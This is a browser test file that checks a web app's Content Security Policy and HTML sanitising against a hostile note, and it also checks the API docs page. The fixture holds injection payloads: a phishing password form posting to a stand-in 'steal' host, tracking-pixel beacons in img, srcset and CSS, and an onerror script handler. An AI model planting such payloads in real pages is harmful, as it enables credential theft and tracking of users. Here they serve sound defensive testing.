import type { Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { buildPartner, buildTouchpoint, buildUnit, buildUser } from '../server/src/test/factories/index.ts';
import { checkScreen, type Harness, signIn, startHarness } from './harness.ts';

/** The app under its CSP, and a hostile touch-point note that must come out harmless. */
const PASSWORD = 'correct horse battery staple';
const PIXEL = 'http://tracker.example.test/pixel.gif?reader=vc';
const DOT =
  'data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAQAAAC1HAwCAAAAC0lEQVR42mNkYAAAAAYAAjCB0C8AAAAASUVORK5CYII=';
const NOTES = `Met the Dean about placements.

![tracking pixel](${PIXEL})

![a dot](${DOT})

<form action="http://phish.example.test/steal"><label>Your password <input type="password" name="p"></label><select name="s"><option>a</option></select><button>Sign in again</button></form>

<img src="${PIXEL}&via=html" alt="html pixel" srcset="${PIXEL}&via=srcset 2x">

<img src="/favicon.ico" alt="script" onerror="window.__notePwned = true">

<p style="background: url(${PIXEL}&via=style)">Styled paragraph</p>`;

let h: Harness;
let partnerId: string;

const watch = (page: Page) => {
  const requests: string[] = [];
  const cspErrors: string[] = [];
  page.on('request', (request) => requests.push(request.url()));
  page.on('console', (message) => {
    if (message.type() === 'error' && /Content Security Policy/i.test(message.text()))
      cspErrors.push(message.text());
  });
  return { requests, cspErrors };
};

beforeAll(async () => {
  h = await startHarness();
  const db = h.database.db;
  const unit = await buildUnit(db, { name: 'Careers Service', kind: 'service' });
  const author = await buildUser(db, {
    email: 'careers@northmoor.ac.uk',
    role: 'staff',
    unitId: unit.id,
    password: PASSWORD,
  });
  partnerId = (await buildPartner(db, { name: 'Harrow Engineering' })).id;
  await buildTouchpoint(db, {
    partnerId,
    unitId: unit.id,
    authorId: author.id,
    subject: 'Placements review',
    notes: NOTES,
  });
});
afterAll(async () => {
  await h?.close();
});

describe('under the Content Security Policy', () => {
  it('renders a hostile note without forms, inputs, remote images or scripts, and asks nothing of other hosts', async () => {
    const page = await h.newPage({ width: 1280, height: 900 });
    const seen = watch(page);
    await signIn(page, h.url, 'careers@northmoor.ac.uk', PASSWORD);
    await page.goto(`${h.url}/partners/${partnerId}`);
    await page.getByText('Met the Dean about placements.').first().waitFor();
    const timeline = page.getByRole('list', { name: 'Timeline' }).first();
    await page.waitForLoadState('networkidle');

    // The only controls in the timeline are the app's own: the touch point's files and history,
    // and (for its author) correcting and deleting it.
    const controls = await timeline
      .locator('form, input, button, select, option, textarea')
      .evaluateAll((els) => els.map((el) => `${el.tagName} ${el.getAttribute('aria-label')}`));
    expect(controls).toEqual([
      'BUTTON Files of Placements review',
      'BUTTON History of Placements review',
      'BUTTON Correct “Placements review”',
      'BUTTON Delete “Placements review”',
    ]);
    expect(await page.locator('input[type="password"]').count()).toBe(0);
    expect(await timeline.locator('[onerror], [style*="url("], [srcset]').count()).toBe(0);
    const images = await timeline
      .locator('img')
      .evaluateAll((imgs) =>
        imgs.map((img) => ({ alt: img.getAttribute('alt'), src: img.getAttribute('src') })),
      );
    expect(images).toEqual([
      { alt: 'tracking pixel', src: null },
      { alt: 'a dot', src: DOT },
      { alt: 'html pixel', src: null },
      { alt: 'script', src: '/favicon.ico' },
    ]);
    expect(await page.evaluate(() => (window as unknown as { __notePwned?: boolean }).__notePwned)).toBe(
      undefined,
    );
    expect(seen.requests.filter((url) => !url.startsWith(h.url) && !url.startsWith('data:'))).toEqual([]);
    // Chromium reports the note's onerror even when DOMPurify parses it in its inert document, where
    // nothing runs (__notePwned stays unset); anything else refused would be the app breaking its CSP.
    expect(seen.cspErrors.filter((text) => !/inline event handler/.test(text))).toEqual([]);
    await checkScreen(page, 'security-hostile-note');
    await page.close();
  });

  it('serves the API reference at /api/docs without breaking its own policy', async () => {
    const page = await h.newPage({ width: 1280, height: 900 });
    const seen = watch(page);
    await page.goto(`${h.url}/api/docs/`);
    await page.getByRole('heading', { name: /Rapport API/ }).waitFor();
    // A group of operations opens (the page's own scripts ran under the policy). Groups start
    // closed, so that Swagger UI draws every one of them.
    await page.locator('.swagger-ui h3.opblock-tag[data-tag="API tokens"]').click();
    await page.getByText('/api/v1/tokens', { exact: true }).first().waitFor();
    expect(seen.cspErrors).toEqual([]);
    expect(seen.requests.filter((url) => !url.startsWith(h.url) && !url.startsWith('data:'))).toEqual([]);
    await page.close();
  });
});
